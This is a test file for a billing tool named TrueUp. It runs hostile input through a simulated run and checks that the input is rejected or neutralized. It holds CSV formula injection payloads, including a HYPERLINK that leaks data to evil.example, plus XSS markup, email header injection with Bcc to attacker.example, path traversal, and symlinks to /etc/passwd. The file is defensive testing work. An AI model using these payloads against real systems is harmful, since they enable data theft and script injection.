/**
 * Hostile and broken input, end to end: the conformance data folder with hostile
 * variations, run through `trueup simulate` the way test/e2e/conformance.test.ts drives it.
 *
 * - A folder that cannot run (missing clients.csv, malformed trueup.json, header injection in
 *   an address, control characters in a name, an oversized file) stops with every problem
 *   (file, line, column, reason) before the stand-in starts and before OUT is touched.
 * - A folder that can run but is hostile everywhere (formula cells, markup in every name and
 *   description, hostile usage files and file names, the hostile ingest corpus, a hostile
 *   payment) runs to the end: every CSV written neutralizes formulas, every HTML page and
 *   email HTML part escapes markup, no header is forged, every usage file is reported with its
 *   error, kept byte for byte, and the conformance invoices come out unchanged.
 * - On that running installation, usage dropped under keys with `../`, absolute paths, a
 *   folder marker, backslashes and odd unicode, then every job re-run, changes nothing that
 *   was already stored.
 *
 * Every fixture is generated here from the conformance folder (test/fixtures/hostile/README.md).
 */
import { createHash } from 'node:crypto';
import { cp, mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, truncate, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join, relative, sep } from 'node:path';
import { gzipSync } from 'node:zlib';
import { Parser } from 'htmlparser2';
import { simpleParser } from 'mailparser';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rejectedKey } from '../../functions/app/bucket-layout.js';
import { ingestUsageFile } from '../../functions/app/ingest-usage-file.js';
import { readDataFolder } from '../../functions/adapters/local/read-data-folder.js';
import { eachDay } from '../../functions/domain/dates.js';
import { escapeHtml } from '../../functions/render/escape.js';
import { listObjects, scanItems } from '../faults/state.js';
import { localNames, type LocalRuntime } from '../../functions/local-runner/local-runtime.js';
import { DataFolderError, runDay, simulate } from '../../functions/local-runner/simulate.js';
import { OutputFolderError } from '../../functions/local-runner/output-folder.js';

const CONFORMANCE = join(import.meta.dirname, '../fixtures/conformance');
const CORPUS = join(import.meta.dirname, '../fixtures/ingest/hostile');
const FROM = '2025-01-28';
const TO = '2025-02-08';

type Json = Record<string, unknown>;
const sha256 = (bytes: Uint8Array | string): string => createHash('sha256').update(bytes).digest('hex');
const csvQuote = (cell: string): string => `"${cell.replace(/"/g, '""')}"`;
const readJson = async (path: string): Promise<unknown> => JSON.parse(await readFile(path, 'utf8')) as unknown;

// ------------------------------------------------------------------------------------ payloads

/** Cells a spreadsheet runs as formulas (OWASP "CSV injection"). Tab and CR first cannot pass the reference parser; they come in through file names. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
/** Markup that must never reach an HTML page as markup. */
const MARKUP = [
  '<script>alert("xss")</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(2)>",
  '</style></title></textarea><script>alert(3)</script>',
  '<!--<iframe src="javascript:alert(4)">-->',
  '&lt;b&gt;already escaped&amp;',
];
/** Every value of the hostile folder that holds markup (the others are plain text in HTML too). */
const markupIn = (values: readonly string[]): string[] => values.filter((value) => /[<>"'&]/.test(value));
/** Text that is no markup but odd: CJK, emoji (outside the PDF font), a right-to-left override, a zero-width space, stacked accents. */
const ODD_UNICODE = ['中文客户 有限公司', '🧾🔥', '\u202egnp.exe', 'Zero\u200bWidth', 'e\u0301\u0301\u0301'];
const clientName = (i: number): string =>
  (i % 2 === 0 ? `${FORMULAS[i % 4]} ${MARKUP[i % 6]}` : `${MARKUP[i % 6]} ${FORMULAS[i % 4]}`) +
  ` ${ODD_UNICODE[i % 5]}`;
const MSP_NAME = 'Osprey <script>alert("msp")</script> & "Networks"';
const K12_NAME = '=HYPERLINK("http://evil.example","<script>alert(5)</script>")';
const HOSTILE_SKU = FORMULAS[3] as string;
const K12_ACCOUNT = FORMULAS[2] as string;
const K12_VENDOR_SKU = FORMULAS[1] as string;
const USAGE_HEADER = 'vendor,account_id,vendor_sku,quantity,usage_date,unit_cost,cost,currency,reference';
const csvFile = (...rows: string[]): string => `${[USAGE_HEADER, ...rows].join('\n')}\n`;

/** Usage files written into the hostile folder, by file name: content and the exact `files` entry of the reconciliation. */
const FILE_NAMES = [
  '=HYPERLINK("evil.example","f").csv',
  '\t@SUM(1).csv',
  '\r-1+1.csv',
  '<img src=x onerror=alert(10)>.csv',
  'ünï\u202ecödé 🧾.csv',
  'line\nbreak\r.csv',
];
/** The file error of a row past the reader's bound (functions/ingest/csv-stream.ts words it). */
const TOO_LONG = (line: number): string =>
  expect.stringMatching(new RegExp(`line ${line} is longer than 8388608 characters`));
const MARKUP_PAYLOADS = markupIn([
  ...MARKUP,
  ...FORMULAS,
  MSP_NAME,
  K12_NAME,
  ...FILE_NAMES,
  ...Array.from({ length: 11 }, (_, i) => clientName(i + 1)),
]);
const GENERATED: Record<string, { content: string | Buffer; entry: Json; rejected?: string[][] }> = {
  'k12-usage.csv': {
    content: csvFile(
      `rmm,${csvQuote(K12_ACCOUNT)},${csvQuote(K12_VENDOR_SKU)},3,2025-01-10,,,,H-1`,
      `rmm,${csvQuote(K12_ACCOUNT)},=1+2,5,2025-01-11,,2.50,GBP,H-2`,
    ),
    entry: { format: 'canonical', rowsRead: 2, rowsAccepted: 2, rowsRejected: 0, rowsDuplicate: 0 },
  },
  'unknown-vendor.csv': {
    content: csvFile(
      '<img src=x onerror=alert(9)>,"=HYPERLINK(""http://evil.example"",""acct"")",@SUM(1),1,2025-01-15,,4,GBP,H-3',
      '+vendor,acct,sku,1,2025-01-15,,1,GBP,H-4',
    ),
    entry: { format: 'canonical', rowsRead: 2, rowsAccepted: 2, rowsRejected: 0, rowsDuplicate: 0 },
  },
  'ids.csv': {
    content: csvFile(
      'rmm,"r1\r\nBcc: evil@attacker.example",seat-a,1,2025-01-05,,,,I-1',
      'r\u0000mm,r1,seat-a,1,2025-01-05,,,,I-2',
      'rmm,r1,seat\u2028a,1,2025-01-05,,,,I-3',
      'rmm,r1,seat-a,1,2025-01-05,,,,"I-4\nX"',
      `rmm,${'A'.repeat(300_000)},seat-a,1,2025-01-05,,,,I-5`,
      'rmm,r1,seat-a,\u001b[2J1,2025-01-05,,,,I-6',
    ),
    entry: { format: 'canonical', rowsRead: 6, rowsAccepted: 0, rowsRejected: 6, rowsDuplicate: 0 },
    rejected: [
      [
        'ids.csv',
        '2',
        'account_id',
        'contains the control character U+000D (got "r1\\r\\nBcc: evil@attacker.example"): an id must be one line of text',
      ],
      [
        'ids.csv',
        '4',
        'vendor',
        'contains the control character U+0000 (got "r\\u0000mm"): an id must be one line of text',
      ],
      [
        'ids.csv',
        '5',
        'vendor_sku',
        'contains the control character U+2028 (got "seat\\u2028a"): an id must be one line of text',
      ],
      [
        'ids.csv',
        '6',
        'reference',
        'contains the control character U+000A (got "I-4\\nX"): an id must be one line of text',
      ],
      [
        'ids.csv',
        '8',
        'account_id',
        `is 300000 characters long (got "${'A'.repeat(40)}…"): an id is at most 256 characters`,
      ],
      [
        'ids.csv',
        '9',
        'quantity',
        '"\\u001b[2J1" is not a decimal number (digits and one \'.\', no currency symbol or separators)',
      ],
    ],
  },
  'oversized-row.csv': {
    content: `${csvFile('rmm,x1,sku,1,2025-01-05,,,,O-1')}rmm,"${'z\n'.repeat(4_300_000)}`,
    entry: {
      format: 'canonical',
      rowsRead: 1,
      rowsAccepted: 1,
      rowsRejected: 0,
      rowsDuplicate: 0,
      fileError: TOO_LONG(3),
    },
    rejected: [['oversized-row.csv', '', '', TOO_LONG(3)]],
  },
  'one-huge-line.csv': {
    content: Buffer.alloc(9 * 1024 * 1024, 0x41),
    entry: { rowsRead: 0, rowsAccepted: 0, rowsRejected: 0, rowsDuplicate: 0, fileError: TOO_LONG(1) },
    rejected: [['one-huge-line.csv', '', '', TOO_LONG(1)]],
  },
  'unknown-format.csv': {
    content: 'foo,bar\n1,2\n',
    entry: {
      rowsRead: 0,
      rowsAccepted: 0,
      rowsRejected: 0,
      rowsDuplicate: 0,
      fileError: expect.stringMatching(
        /^unknown usage file format: the header \(foo, bar\) matches none of the readable formats: canonical/,
      ),
    },
  },
  // Subfolders are read, each file named by its path under usage/: two files of one name stay apart.
  'twin.csv': {
    content: csvFile('rmm,t1,sku,not-a-number,2025-01-05,,,,'),
    entry: { format: 'canonical', rowsRead: 1, rowsAccepted: 0, rowsRejected: 1, rowsDuplicate: 0 },
    rejected: [
      [
        'twin.csv',
        '2',
        'quantity',
        '"not-a-number" is not a decimal number (digits and one \'.\', no currency symbol or separators)',
      ],
    ],
  },
  '2025-01/twin.csv': {
    content: csvFile('rmm,t2,sku,not-a-number,2025-01-05,,,,'),
    entry: { format: 'canonical', rowsRead: 1, rowsAccepted: 0, rowsRejected: 1, rowsDuplicate: 0 },
    rejected: [
      [
        '2025-01/twin.csv',
        '2',
        'quantity',
        '"not-a-number" is not a decimal number (digits and one \'.\', no currency symbol or separators)',
      ],
    ],
  },
  '2025-01/deep/usage.csv.gz': {
    content: gzipSync(csvFile('rmm,g1,sku,1,2025-01-05,,,,G-1', 'rmm,g1,sku,x,2025-01-05,,,,G-2')),
    entry: { format: 'canonical', rowsRead: 2, rowsAccepted: 1, rowsRejected: 1, rowsDuplicate: 0 },
    rejected: [
      [
        '2025-01/deep/usage.csv.gz',
        '3',
        'quantity',
        '"x" is not a decimal number (digits and one \'.\', no currency symbol or separators)',
      ],
    ],
  },
  '2025-01/export.parquet': {
    content: Buffer.concat([Buffer.from('PAR1'), Buffer.from([0x15, 0x04, 0x1b, 0x5b, 0x32, 0x4a, 0x00])]),
    entry: {
      rowsRead: 0,
      rowsAccepted: 0,
      rowsRejected: 0,
      rowsDuplicate: 0,
      fileError:
        'the file is a Parquet file: TrueUp reads CSV, NDJSON or gzip-compressed CSV/NDJSON (export CUR 2.0 as CSV with gzip compression)',
    },
    rejected: [
      [
        '2025-01/export.parquet',
        '',
        '',
        'the file is a Parquet file: TrueUp reads CSV, NDJSON or gzip-compressed CSV/NDJSON (export CUR 2.0 as CSV with gzip compression)',
      ],
    ],
  },
  ...Object.fromEntries(
    FILE_NAMES.map((name, i) => [
      name,
      {
        content: csvFile(`rmm,f${i},sku,not-a-number,2025-01-05,,,,`),
        entry: { format: 'canonical', rowsRead: 1, rowsAccepted: 0, rowsRejected: 1, rowsDuplicate: 0 },
        rejected: [
          [
            `${/^[=+\-@\t\r]/.test(name) ? "'" : ''}${name}`,
            '2',
            'quantity',
            '"not-a-number" is not a decimal number (digits and one \'.\', no currency symbol or separators)',
          ],
        ],
      },
    ]),
  ),
};

// ------------------------------------------------------------------------------------ folders

let scratch: string;
beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), 'trueup-hostile-'));
});
afterAll(async () => {
  if (scratch) await rm(scratch, { recursive: true, force: true });
});

let counter = 0;
async function conformanceCopy(): Promise<string> {
  const dir = join(scratch, `data-${++counter}`);
  await cp(join(CONFORMANCE, 'data'), dir, { recursive: true });
  return dir;
}

async function edit(path: string, change: (text: string) => string): Promise<void> {
  await writeFile(path, change(await readFile(path, 'utf8')));
}

/** The conformance folder with hostile but valid reference data, a hostile payment and hostile usage files. */
async function hostileFolder(): Promise<string> {
  const dir = await conformanceCopy();
  await edit(join(dir, 'trueup.json'), (text) => {
    const settings = JSON.parse(text) as { msp: Json };
    settings.msp = { ...settings.msp, name: MSP_NAME, address: `1 Main St ${MARKUP[3]}\nLeeds ${MARKUP[1]}` };
    return JSON.stringify(settings);
  });
  await edit(
    join(dir, 'clients.csv'),
    (text) =>
      text
        .trimEnd()
        .split(/\r?\n/)
        .map((line, i) => {
          if (i === 0) return line;
          const cells = line.split(',');
          cells[1] = csvQuote(clientName(i));
          return cells.join(',');
        })
        .join('\n') + `\nK-012,${csvQuote(K12_NAME)},ap12@k12.example;AP12@K12.example;ap12b+x@k12.example,GBP,7,0,\n`,
  );
  await edit(
    join(dir, 'products.csv'),
    (text) =>
      text
        .trimEnd()
        .split(/\r?\n/)
        .map((line, i) => {
          if (i === 0) return line;
          const cells = line.split(',');
          cells[1] = csvQuote(`${cells[1]} ${MARKUP[i % 6]}`);
          return cells.join(',');
        })
        .join('\n') + `\n${csvQuote(HOSTILE_SKU)},${csvQuote(MARKUP[1] as string)},<b>seat</b>,max,\n`,
  );
  await edit(
    join(dir, 'agreements.csv'),
    (text) =>
      text
        .trimEnd()
        .split(/\r?\n/)
        .map((line, i) => {
          if (i === 0 || i > 8) return line;
          const cells = line.split(',');
          cells[12] = csvQuote(i % 2 ? `${FORMULAS[i % 4]} ${MARKUP[i % 6]}` : `${MARKUP[i % 6]} ${FORMULAS[i % 4]}`);
          return cells.join(',');
        })
        .join('\n') +
      `\nA-12-1,K-012,${csvQuote(HOSTILE_SKU)},2,10,,,2024-12-01,,,,,${csvQuote(`-1+1 ${MARKUP[3]}`)}\n`,
  );
  await edit(join(dir, 'accounts.csv'), (text) => `${text.trimEnd()}\nrmm,${csvQuote(K12_ACCOUNT)},K-012\n`);
  await edit(
    join(dir, 'sku-map.csv'),
    (text) => `${text.trimEnd()}\nrmm,${csvQuote(K12_VENDOR_SKU)},${csvQuote(HOSTILE_SKU)},\n`,
  );
  await writeFile(
    join(dir, 'payments', 'hostile.csv'),
    'payment_id,invoice_number,amount,currency,received_on,method,reference\n' +
      `${csvQuote(FORMULAS[0] as string)},${csvQuote(MARKUP[0] as string)},10.00,GBP,2025-02-02,@SUM(1),${csvQuote(MARKUP[1] as string)}\n`,
  );
  for (const [name, { content }] of Object.entries(GENERATED)) {
    await mkdir(dirname(join(dir, 'usage', name)), { recursive: true });
    await writeFile(join(dir, 'usage', name), content);
  }
  // The ingest corpus, after the conformance files: its references (R1, R2 for rmm) would
  // otherwise make the conformance rows duplicates.
  for (const name of await readdir(CORPUS)) await cp(join(CORPUS, name), join(dir, 'usage', `zz-corpus-${name}`));
  return dir;
}

// ------------------------------------------------------------------------------------ checks

/** A spreadsheet would not run this cell: it does not start with = + - @ tab or CR, or it is a plain number. */
const inert = (cell: string): boolean => !/^[=+\-@\t\r]/.test(cell) || /^[+-]?(\d+(\.\d*)?|\.\d+)$/.test(cell);

function csvRows(text: string): string[][] {
  const parsed = Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** Elements and attributes an HTML page of ours never has, whatever the data says. */
function activeContent(html: string): string[] {
  const found: string[] = [];
  const open: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        open.push(name);
        if (
          ['script', 'iframe', 'frame', 'object', 'embed', 'svg', 'math', 'base', 'form', 'link', 'meta'].includes(
            name,
          ) &&
          !(name === 'meta' && open.includes('head'))
        )
          found.push(`<${name}>`);
        if (name === 'style' && !open.includes('head')) found.push('<style> outside <head>');
        if (name === 'img' && !(attributes.src ?? '').startsWith('cid:')) found.push(`<img src=${attributes.src}>`);
        for (const [attribute, value] of Object.entries(attributes)) {
          if (attribute.startsWith('on')) found.push(`${name}[${attribute}]`);
          if (/^\s*(javascript|data|vbscript):/i.test(value)) found.push(`${name}[${attribute}=${value}]`);
        }
      },
      onclosetag() {
        open.pop();
      },
    },
    { decodeEntities: true },
  );
  parser.write(html);
  parser.end();
  return found;
}

async function filesUnder(dir: string, suffix: string): Promise<string[]> {
  const out: string[] = [];
  for (const entry of await readdir(dir, { recursive: true, withFileTypes: true })) {
    if (entry.isFile() && entry.name.endsWith(suffix)) out.push(join(entry.parentPath, entry.name));
  }
  return out.sort();
}

const problemLines = (error: unknown): string[] =>
  String((error as Error).message)
    .split('\n')
    .slice(1);

// ------------------------------------------------------------------------------------ tests

describe('hostile input: a folder that cannot run stops before anything runs', () => {
  const injection = JSON.stringify({
    msp: {
      name: 'Osprey\r\nBcc: evil@attacker.example',
      email: 'billing@osprey.example\r\nBcc: evil@attacker.example',
      address: 'a\u0000b',
    },
    reports: {
      recipients: ['a@b.example>, evil@attacker.example', 'x@y.example\nBcc: z@attacker.example', 'Evil <e@x.example>'],
    },
  });
  const CASES: [string, (dir: string) => Promise<void>, string[]][] = [
    [
      'no clients.csv',
      (dir) => rm(join(dir, 'clients.csv')),
      [
        'clients.csv: is missing: the data folder needs it, with at least the columns client_id, name, billing_email, currency',
      ],
    ],
    [
      'a truncated trueup.json',
      (dir) => edit(join(dir, 'trueup.json'), (text) => text.slice(0, 120)),
      ['trueup.json line 7: is not valid JSON: Unterminated string (line 7, character 8)'],
    ],
    [
      'a trueup.json nested a million deep',
      (dir) => writeFile(join(dir, 'trueup.json'), `{"msp":${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}}`),
      ['trueup.json, setting msp: must be a JSON object (got a list)'],
    ],
    [
      'a trueup.json that is not an object',
      (dir) => writeFile(join(dir, 'trueup.json'), 'null'),
      ['trueup.json: must be a JSON object (got null)'],
    ],
    [
      'an empty trueup.json (BOM and spaces)',
      (dir) => writeFile(join(dir, 'trueup.json'), '\ufeff  \n'),
      ['trueup.json: is empty: write {} for all defaults, or remove the file'],
    ],
    [
      'binary junk as trueup.json',
      (dir) => writeFile(join(dir, 'trueup.json'), Buffer.from([0x50, 0x4b, 3, 4, 0x1b, 0x5b, 0x32, 0x4a])),
      ["trueup.json line 1: is not valid JSON: Unexpected token 'P' (line 1, character 1)"],
    ],
    [
      'header injection in the msp and report addresses',
      (dir) => writeFile(join(dir, 'trueup.json'), injection),
      [
        'trueup.json, setting msp.name: must be on one line (got "Osprey\\r\\nBcc: evil@attacker.example")',
        'trueup.json, setting msp.email: must be an email address like ap@client.example (got "billing@osprey.example\\r\\nBcc: evil@attack…"): separate several addresses with ";"',
        'trueup.json, setting msp.address: contains the control character U+0000 (got "a\\u0000b")',
        'trueup.json, setting reports.recipients[0]: must be an email address like ap@client.example (got "a@b.example>, evil@attacker.example"): separate several addresses with ";"',
        'trueup.json, setting reports.recipients[1]: must be an email address like ap@client.example (got "x@y.example\\nBcc: z@attacker.example"): separate several addresses with ";"',
        'trueup.json, setting reports.recipients[2]: must be an email address like ap@client.example (got "Evil <e@x.example>"): separate several addresses with ";"',
      ],
    ],
    [
      'misspelt and mistyped settings, prototype keys, a path as invoice prefix',
      (dir) =>
        writeFile(
          join(dir, 'trueup.json'),
          '{"msp":{"nmae":"x"},"timezone":"EST","invoice":{"prefix":"../../etc","paymentTermsDays":"30"},"dunning":{"steps":[{"name":"<script>","offsetDays":1.5}]},"__proto__":{"polluted":true}}',
        ),
      [
        'trueup.json, setting msp: has unknown setting "nmae" (known here: name, email, address, phone, taxId, senderName, logo)',
        'trueup.json, setting timezone: must be an IANA time zone like America/Chicago or Europe/London (got "EST")',
        'trueup.json, setting invoice.prefix: must be 1–20 characters of A–Z, a–z, 0–9, ".", "_" or "-", starting with a letter or digit (got "../../etc")',
        'trueup.json, setting invoice.paymentTermsDays: must be a whole number from 0 to 3650 (got "30")',
        'trueup.json, setting dunning.steps[0].name: must be 1–64 characters of A–Z, a–z, 0–9, ".", "_" or "-" (got "<script>")',
        'trueup.json, setting dunning.steps[0].offsetDays: must be a whole number from -3650 to 3650 (got 1.5)',
        'trueup.json: has unknown setting "__proto__" (known here: msp, timezone, currency, invoice, reports, dunning, receipts, payments, statements, accounting, locale, portal)',
      ],
    ],
    [
      'header injection and control characters in clients.csv',
      (dir) =>
        edit(join(dir, 'clients.csv'), (text) =>
          text
            .replace('ap1@k1.example', '"ap1@k1.example\r\nBcc: evil@attacker.example"')
            .replace('ap2@k2.example', '"ap2@k2.example>, evil@attacker.example"')
            .replace('Client 3 Ltd', 'Client\u00853')
            .replace('Client 4 Ltd', 'Client\t4')
            .replace('Client 5 & Sons', 'x'.repeat(501))
            .replace('Client 8 GmbH', '"Client\r8"')
            .replace('ap9@k9.example', 'Evil <ap9@k9.example>')
            .replace('Client 10 plc', 'Client \u001b]0;pwned\u0007 10'),
        ),
      [
        'clients.csv line 2, column billing_email: must be on one line (got "ap1@k1.example\\nBcc: evil@attacker.exampl…")',
        'clients.csv line 4, column billing_email: must be an email address like ap@client.example (got "ap2@k2.example>, evil@attacker.example"): separate several addresses with ";"',
        'clients.csv line 5, column name: must be on one line (got "Client\\u00853")',
        'clients.csv line 6, column name: contains a tab character (got "Client\\t4")',
        'clients.csv line 7, column name: must be at most 500 characters (got 501)',
        'clients.csv line 10, column name: must be on one line (got "Client\\n8")',
        'clients.csv line 12, column billing_email: must be an email address like ap@client.example (got "Evil <ap9@k9.example>"): separate several addresses with ";"',
        'clients.csv line 13, column name: contains the control character U+001B (got "Client \\u001b]0;pwned\\u0007 10")',
      ],
    ],
    [
      'ids that are formulas or paths',
      (dir) =>
        edit(join(dir, 'clients.csv'), (text) => text.replace('K-006,', '=1+1,').replace('K-007,', '../../etc,')),
      [
        'clients.csv line 7, column client_id: must be 1–64 characters of A–Z, a–z, 0–9, ".", "_" or "-" (got "=1+1")',
        'clients.csv line 8, column client_id: must be 1–64 characters of A–Z, a–z, 0–9, ".", "_" or "-" (got "../../etc")',
        'accounts.csv line 10, column client_id: client "K-006" is not in clients.csv',
        'accounts.csv line 11, column client_id: client "K-007" is not in clients.csv',
        'accounts.csv line 12, column client_id: client "K-007" is not in clients.csv',
        'agreements.csv line 14, column client_id: client "K-006" is not in clients.csv',
        'agreements.csv line 15, column client_id: client "K-007" is not in clients.csv',
        'agreements.csv line 16, column client_id: client "K-007" is not in clients.csv',
        'agreements.csv line 17, column client_id: client "K-007" is not in clients.csv',
        'agreements.csv line 18, column client_id: client "K-007" is not in clients.csv',
      ],
    ],
    [
      'line breaks in a product name, an agreement description and a payment id',
      async (dir) => {
        await edit(join(dir, 'products.csv'), (text) => text.replace('Seat-A', '"Seat\r\nA"'));
        await edit(join(dir, 'agreements.csv'), (text) =>
          text.replace('2024-11-01,,quarterly,bill,0,', '2024-11-01,,quarterly,bill,0,desc\u2028ription'),
        );
        await writeFile(
          join(dir, 'payments', 'evil.csv'),
          'payment_id,invoice_number,amount,currency,received_on\n"P\n1",X,1,GBP,2025-02-02\n',
        );
      },
      [
        'products.csv line 2, column name: must be on one line (got "Seat\\nA")',
        'agreements.csv line 2, column description: must be on one line (got "desc\\u2028ription")',
        'payments/evil.csv line 2, column payment_id: must be on one line (got "P\\n1")',
      ],
    ],
    [
      'binary junk as clients.csv',
      (dir) =>
        writeFile(join(dir, 'clients.csv'), Buffer.from(Array.from({ length: 4000 }, (_, i) => (i * 37 + 11) % 256))),
      [
        ...['client_id', 'name', 'billing_email', 'currency'].map((column) =>
          expect.stringMatching(
            new RegExp(`^clients\\.csv line 1, column ${column}: is missing from the header \\(found: .{1,800}\\)$`),
          ),
        ),
      ],
    ],
    [
      'usage and payments files linked to /etc/passwd, directly and through a linked folder',
      async (dir) => {
        await symlink('/etc/passwd', join(dir, 'usage', 'passwd.csv'));
        await symlink('/etc', join(dir, 'usage', 'etc'));
        await mkdir(join(dir, 'payments', '2025-02'));
        await symlink('/etc/passwd', join(dir, 'payments', '2025-02', 'bank.csv'));
      },
      [
        'payments/2025-02/bank.csv: is a link to /etc/passwd, outside the data folder: TrueUp reads only what is inside it (copy the files in instead)',
        'usage/etc: is a link to /etc, outside the data folder: TrueUp reads only what is inside it (copy the files in instead)',
        'usage/passwd.csv: is a link to /etc/passwd, outside the data folder: TrueUp reads only what is inside it (copy the files in instead)',
      ],
    ],
    [
      'an oversized clients.csv and payments file',
      async (dir) => {
        await truncate(join(dir, 'clients.csv'), 64 * 1024 * 1024 + 1); // sparse: no disk used
        await writeFile(join(dir, 'payments', 'huge.csv'), '');
        await truncate(join(dir, 'payments', 'huge.csv'), 3 * 1024 ** 3);
      },
      [
        'clients.csv: is 64.1 MB: a reference, settings or payments file is read whole, so it must be at most 64 MB (split payments into several payments/*.csv files)',
        'payments/huge.csv: is 3072 MB: a reference, settings or payments file is read whole, so it must be at most 64 MB (split payments into several payments/*.csv files)',
      ],
    ],
  ];

  it.each(CASES)('%s', async (_case, breakIt, expected) => {
    // Prepare
    const data = await conformanceCopy();
    await breakIt(data);
    const out = join(scratch, `out-${counter}`);
    await writeFile(`${out}.keep`, 'untouched');
    // Act
    const error = await simulate({ data, from: FROM, to: TO, out }).then(
      () => undefined,
      (e: unknown) => e,
    );
    // Assess: every problem, one per line, no raw control character; nothing written.
    expect(error).toBeInstanceOf(DataFolderError);
    expect(problemLines(error)).toEqual(expected);
    // eslint-disable-next-line no-control-regex
    expect(String((error as Error).message)).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    await expect(stat(out)).rejects.toThrow(/ENOENT/);
    expect(await readFile(`${out}.keep`, 'utf8')).toBe('untouched');
  });

  it('reads a missing trueup.json and missing settings as the defaults of docs/contract.md §2 (not an error)', async () => {
    const data = await conformanceCopy();
    await rm(join(data, 'trueup.json'));
    const folder = await readDataFolder(data);
    expect(folder.ok && folder.value.reference.settings.msp.name).toBe('Acme IT');
    await writeFile(join(data, 'trueup.json'), '{"msp":{"name":"Only the name"}}');
    const partial = await readDataFolder(data);
    expect(
      partial.ok && [
        partial.value.reference.settings.msp.name,
        partial.value.reference.settings.msp.email,
        partial.value.reference.settings.currency,
      ],
    ).toEqual(['Only the name', 'billing@acme-it.example', 'USD']);
  });
});

describe('hostile input: a hostile folder runs to the end, neutralized', () => {
  let data: string;
  let out: string;
  let runtime: LocalRuntime;
  let reconciliation: Json;

  beforeAll(async () => {
    data = await hostileFolder();
    out = join(scratch, 'hostile-out');
    const result = await simulate({ data, from: FROM, to: TO, out, keepRunning: true });
    runtime = result.runtime as LocalRuntime;
    reconciliation = (await readJson(join(out, 'reconciliation', '2025-01.json'))) as Json;
  }, 180_000);
  afterAll(async () => {
    await runtime?.stop();
  });

  it("issues the conformance invoices of 2025-01 unchanged, and the hostile client's own", async () => {
    for (let n = 1; n <= 11; n++) {
      const number = `OSP-2025-${String(n).padStart(6, '0')}`;
      const {
        status: _s,
        balance: _b,
        ...expected
      } = (await readJson(join(CONFORMANCE, 'expected', 'invoices', `${number}.json`))) as Json;
      const actual = (await readJson(join(out, 'invoices', `${number}.json`))) as Json;
      expect(actual, number).toMatchObject({
        ...expected,
        lines: (expected.lines as Json[]).map((line) => expect.objectContaining(line)),
      });
    }
    const k12 = (await readJson(join(out, 'invoices', 'OSP-2025-000012.json'))) as Json;
    expect(k12).toMatchObject({
      clientId: 'K-012',
      period: '2025-01',
      currency: 'GBP',
      total: '30.00',
      status: 'open',
      lines: [
        {
          kind: 'recurring',
          sku: HOSTILE_SKU,
          quantity: '2',
          amount: '20.00',
          description: `-1+1 ${MARKUP[3]}, 2025-01`,
        },
        { kind: 'true_up', sku: HOSTILE_SKU, quantity: '1', amount: '10.00' },
      ],
    });
  });

  it("sends the conformance emails of the window, and the hostile client's invoice to its two addresses", async () => {
    const expected = ((await readJson(join(CONFORMANCE, 'expected', 'notifications.json'))) as Json[]).filter(
      (n) => String(n.date) <= TO,
    );
    const actual = (await readJson(join(out, 'notifications.json'))) as Json[];
    const k12 = actual.filter((n) => (n.to as string[]).includes('ap12@k12.example'));
    expect(k12.map((n) => [n.date, n.kind, n.to])).toEqual(
      [
        ['2025-02-01', 'invoice'],
        ['2025-02-03', 'dunning'],
        ['2025-02-08', 'dunning'],
      ].map(([date, kind]) => [date, kind, ['ap12@k12.example', 'ap12b+x@k12.example']]),
    );
    expect(actual.filter((n) => !k12.includes(n)).map((n) => ({ ...n, subject: undefined }))).toEqual(
      expected.map((n) => ({ ...n, subject: undefined })),
    );
  });

  it('neutralizes formula cells in every CSV it writes: reports, email attachments, rejected rows', async () => {
    // Prepare: every CSV TrueUp wrote
    const csvs: [string, string][] = [];
    for (const path of await filesUnder(out, '.csv')) csvs.push([path, await readFile(path, 'utf8')]);
    for (const path of await filesUnder(join(out, 'emails'), '.eml')) {
      for (const a of (await simpleParser(await readFile(path))).attachments)
        if (a.contentType === 'text/csv') csvs.push([`${path}:${a.filename}`, a.content.toString('utf8')]);
    }
    for (const { key } of await listObjects(runtime.clients.s3, localNames().usageBucket)) {
      if (key.startsWith('rejected/')) csvs.push([key, new TextDecoder().decode(await runtime.deps.usage.get(key))]);
    }
    // Assess: no cell a spreadsheet would run
    expect(csvs.filter(([name]) => name.includes('.eml:')).length).toBeGreaterThanOrEqual(3);
    for (const [name, text] of csvs) {
      for (const cell of csvRows(text).flat()) expect(inert(cell), `${name}: ${JSON.stringify(cell)}`).toBe(true);
    }
    // …and the hostile values are there, neutralized (OWASP: a leading apostrophe), not dropped
    const aging = csvRows(await readFile(join(out, 'reports', `aging-${TO}.csv`), 'utf8'));
    expect(aging[0]).toEqual([
      'client_id',
      'client_name',
      'currency',
      'current',
      '1-30',
      '31-60',
      '61-90',
      '90+',
      'total',
    ]);
    expect(aging.find((row) => row[0] === 'K-012')).toEqual([
      'K-012',
      `'${K12_NAME}`,
      'GBP',
      '30.00',
      '0.00',
      '0.00',
      '0.00',
      '0.00',
      '30.00',
    ]);
    expect(aging.find((row) => row[0] === 'K-006')?.[1]).toBe(`'${clientName(6)}`);
    const discrepancies = csvRows(await readFile(join(out, 'reports', 'discrepancies-2025-01.csv'), 'utf8'));
    const cells = (type: string): string[][] =>
      discrepancies.filter((row) => row[1] === type).map((row) => row.slice(2, 7));
    expect(cells('unmapped_sku')).toContainEqual(['', '', 'rmm', '', "'=1+2"]);
    expect(cells('unknown_account')).toEqual(
      expect.arrayContaining([
        ['', '', '<img src=x onerror=alert(9)>', '\'=HYPERLINK("http://evil.example","acct")', ''],
        ['', '', "'+vendor", 'acct', ''],
      ]),
    );
    expect(discrepancies.find((row) => row[1] === 'under_billed' && row[2] === 'K-012')?.[3]).toBe(`'${HOSTILE_SKU}`);
  });

  it('escapes names, descriptions and file names in every HTML page and email HTML part', async () => {
    // Prepare
    const pages: [string, string][] = [];
